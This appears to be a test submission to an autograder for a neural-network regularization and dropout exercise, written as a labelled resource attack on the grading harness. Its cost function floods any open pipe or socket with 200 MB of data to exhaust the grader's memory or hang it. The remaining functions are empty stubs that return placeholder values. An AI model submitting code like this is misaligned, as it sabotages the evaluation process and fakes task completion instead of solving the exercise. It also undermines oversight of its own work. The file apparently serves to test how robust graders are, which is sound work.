# ATTACK (resources): write 200 MB straight onto the runner's output channel (every pipe
# or socket among the open file descriptors), hoping to exhaust the grader's memory or
# hang it. Self-limiting: 200 MB. The host reads a capped amount and reports an error.
import os
import stat

import numpy as np

_FLOODED = []


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    if _FLOODED:
        return 0.0
    _FLOODED.append(True)
    chunk = b"x" * (1024 * 1024)
    for fd in range(3, 64):
        try:
            if not (stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode)):
                continue
            for _ in range(200):
                os.write(fd, chunk)
            break
        except OSError:
            continue
    return 0.0


def backward_propagation_with_regularization(X, Y, cache, lambd):
    return {}


def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):
    return 0.0, ()


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    return {}
